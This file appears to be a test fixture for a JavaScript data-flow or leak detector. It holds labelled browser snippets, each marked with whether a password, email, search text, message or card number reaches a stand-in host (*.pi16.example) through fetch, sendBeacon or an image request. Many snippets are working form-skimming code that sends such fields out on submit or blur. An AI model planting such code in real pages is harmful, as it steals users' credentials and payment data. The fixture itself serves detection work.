// Values that go through functions one after the other: which comes first decides what is left.

//# cleaned-before-it-is-sent
// no flow
const steps = [({ password, ...rest }) => rest, (form) => fetch('https://cbs.pi16.example/f', { method: 'POST', body: JSON.stringify(form) })];
document.querySelector('form').addEventListener('submit', () => {
  steps.reduce((form, step) => step(form), { password: document.querySelector('input[type=password]').value, step: 1 });
});

//# sent-before-it-is-cleaned
// flow: password > sbc.pi16.example via fetch
const steps2 = [
  (form) => { fetch('https://sbc.pi16.example/f', { method: 'POST', body: JSON.stringify(form) }); return form; },
  ({ password, ...rest }) => rest,
];
document.querySelector('form').addEventListener('submit', () => {
  steps2.reduce((form, step) => step(form), { password: document.querySelector('input[type=password]').value, step: 1 });
});

//# chain-of-promises
// no flow
// why: the second step makes a number of it
const run = (first, ...tasks) => tasks.reduce((before, task) => before.then(task), Promise.resolve(first));
run(document.querySelector('input[type=email]').value, (v) => v.trim(), (v) => v.length)
  .then((n) => navigator.sendBeacon('https://cop.pi16.example/n', String(n > 3)));

//# chain-of-promises-keeps-it
// flow: email > cok.pi16.example via beacon
const run2 = (first, ...tasks) => tasks.reduce((before, task) => before.then(task), Promise.resolve(first));
run2(document.querySelector('input[type=email]').value, (v) => v.trim(), (v) => v.toLowerCase())
  .then((v) => navigator.sendBeacon('https://cok.pi16.example/n', v));

//# compose-runs-from-the-right
// flow: search > crr.pi16.example via image
// why: the constant is made first, and thrown away by nobody: the text is put behind it
function compose() {
  var fns = [].slice.call(arguments);
  return function (x) { return fns.reduceRight(function (v, f) { return f(v); }, x); };
}
var shorten = compose(function (v) { return v.slice(0, 40); }, function (v) { return v.trim(); });
document.querySelector('input[type=search]').onchange = function () { new Image().src = 'https://crr.pi16.example/q?' + shorten(this.value); };

//# compose-ends-with-a-constant
// no flow
const compose2 = (...fns) => (x) => fns.reduceRight((v, f) => f(v), x);
const label = compose2(() => 'searched', (v) => v.trim());
document.querySelector('input[type=search]').onchange = (e) => { new Image().src = 'https://cec.pi16.example/q?' + label(e.target.value); };

//# transforms-in-a-loop
// no flow
// why: what is left of the message after the last transform is its kind
const transforms = [(m) => ({ ...m, at: Date.now() }), (m) => ({ kind: m.kind, at: m.at })];
function deliver(text) {
  let message = { kind: 'note', text };
  for (const transform of transforms) message = transform(message);
  navigator.sendBeacon('https://til.pi16.example/m', JSON.stringify(message));
}
document.querySelector('#send').onclick = () => deliver(document.querySelector('textarea').value);

//# transforms-that-add
// flow: message > tta.pi16.example via beacon
const transforms2 = [(m) => ({ ...m, at: Date.now() }), (m) => ({ ...m, page: location.pathname })];
function deliver2(text) {
  let message = { kind: 'note', text };
  for (const transform of transforms2) message = transform(message);
  navigator.sendBeacon('https://tta.pi16.example/m', JSON.stringify(message));
}
document.querySelector('#send').onclick = () => deliver2(document.querySelector('textarea').value);

//# plug-in-list-that-may-be-empty
// flow: card > pem.pi16.example via fetch
// why: who says that a plug-in is there that takes the number out
class Gateway {
  plugins = [];
  use(plugin) { this.plugins.push(plugin); return this; }
  async send(body) {
    let request = body;
    for (const plugin of this.plugins) request = await plugin(request);
    return fetch('https://pem.pi16.example/c', { method: 'POST', body: JSON.stringify(request) });
  }
}
const gateway = new Gateway();
document.querySelector('#safe').onclick = () => gateway.use(({ card, ...rest }) => rest);
document.querySelector('#pay').onclick = () => gateway.send({ card: document.querySelector('input[autocomplete=cc-number]').value });

//# plug-in-of-another-gateway
// flow: card > pag.pi16.example via fetch
class Gateway2 {
  plugins = [];
  use(plugin) { this.plugins.push(plugin); return this; }
  async send(url, body) {
    let request = body;
    for (const plugin of this.plugins) request = await plugin(request);
    return fetch(url, { method: 'POST', body: JSON.stringify(request) });
  }
}
const safe = new Gateway2().use(({ card, ...rest }) => rest);
const plain = new Gateway2();
document.querySelector('#pay').onclick = () => {
  plain.send('https://pag.pi16.example/c', { card: document.querySelector('input[autocomplete=cc-number]').value });
  safe.send('https://pas.pi16.example/c', { n: 1 });
};

//# first-two-of-what-is-given
// no flow
// why: the third argument stays here
const ping = (...given) => navigator.sendBeacon('https://ftg.pi16.example/' + given.slice(0, 2).join('/'));
document.querySelector('#email').onblur = (e) => ping('form', 'blur', e.target.value);

//# all-but-the-first-of-what-is-given
// flow: email > abf.pi16.example via beacon
function event() {
  var rest = Array.prototype.slice.call(arguments, 1);
  navigator.sendBeacon('https://abf.pi16.example/e', JSON.stringify(rest));
}
document.querySelector('#email').onblur = function () { event('blur', 7, this.value); };

//# the-name-comes-first
// no flow
// why: what is sent is the second argument, and the first is the number
function track() {
  var rest = [].slice.call(arguments, 1);
  new Image().src = 'https://tnf.pi16.example/t.gif?e=' + rest[0];
}
document.querySelector('input[autocomplete=cc-number]').onblur = function () { track(this.value, 'blur'); };

//# the-name-comes-last
// flow: card > tnl.pi16.example via image
function track2() {
  var rest = [].slice.call(arguments, 1);
  new Image().src = 'https://tnl.pi16.example/t.gif?e=' + rest[0];
}
document.querySelector('input[autocomplete=cc-number]').onblur = function () { track2('blur', this.value); };
